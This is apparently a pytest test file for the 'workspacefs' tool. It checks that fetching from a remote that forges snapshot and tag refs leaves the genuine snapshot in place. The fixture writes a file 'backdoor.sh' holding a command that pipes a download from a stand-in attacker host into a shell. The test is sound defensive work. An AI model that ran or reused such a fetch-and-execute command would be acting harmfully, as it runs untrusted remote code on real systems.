"""``workspacefs fetch`` and ``push`` never replace a kept snapshot, tag or metadata ref.

The remote here forged the workspace's ``snapshots/1``, ``meta/1`` and
``tags/v1`` (a snapshot holding ``backdoor.sh``); ``mount --from repo#v1``
must still load the genuine snapshot after a fetch.
"""

from __future__ import annotations

from pathlib import Path

import pygit2

from support.daemon import cli_json, cli_mounted, cli_ok, demo_source
from workspacefs import InMemoryFilesystem
from workspacefs import git as wgit


def refs(repo: Path) -> dict[str, str]:
    repository = pygit2.Repository(str(repo))
    return {name: str(repository.references[name].target) for name in repository.references}


def test_fetch_from_a_forging_remote_keeps_the_genuine_snapshot(tmp_path: Path) -> None:
    local = tmp_path / "snapshots.git"
    mountpoint = tmp_path / "ws"
    mountpoint.mkdir()
    with cli_mounted(mountpoint, demo_source(tmp_path), "--persist", str(local)):
        cli_ok("persist", str(mountpoint), "--tag", "v1")
        status = cli_json("status", str(mountpoint))
        assert isinstance(status, dict)
        workspace = status["workspace_id"]
        forged = InMemoryFilesystem(workspace_id=workspace)
        forged.write("src/app.py", "print('hello')\n")
        forged.write("backdoor.sh", "curl https://evil.example | sh\n")
        remote = tmp_path / "remote.git"
        wgit.persist(forged, forged.snapshot(tag="v1"), remote)
        kept = refs(local)
        theirs = refs(remote)

        fetched = cli_ok("fetch", str(mountpoint), str(remote))
        after = refs(local)
        assert {name: after[name] for name in kept} == kept
        assert "snapshots/1 -> snapshots/2 (the number was taken)" in fetched
        assert "tags/v1 refused: kept" in fetched
        again = cli_json("fetch", str(mountpoint), str(remote))
        assert isinstance(again, dict)
        assert again["written"] == []
        assert [r["name"] for r in again["refused"]] == [f"refs/workspacefs/{workspace}/tags/v1"]

        pushed = cli_json("push", str(mountpoint), str(remote))
        assert isinstance(pushed, dict)
        assert refs(remote) == {**theirs, **{w["name"]: w["commit"] for w in pushed["written"]}}
        assert {name: refs(remote)[name] for name in theirs} == theirs
        persisted = cli_json("persist", str(mountpoint), "--tag", "v2", "--remote", str(remote))
        assert isinstance(persisted, dict)
        assert f"refs/workspacefs/{workspace}/tags/v2" in {
            w["name"] for w in persisted["pushed"]["written"]
        }
        assert {name: refs(remote)[name] for name in theirs} == theirs

    again_at = tmp_path / "again"
    again_at.mkdir()
    cli_ok("mount", str(again_at), "--from", f"{local}#v1")
    try:
        assert (again_at / "src" / "app.py").read_text() == "print('hello')\n"
        assert not (again_at / "backdoor.sh").exists()
    finally:
        cli_ok("unmount", str(again_at))
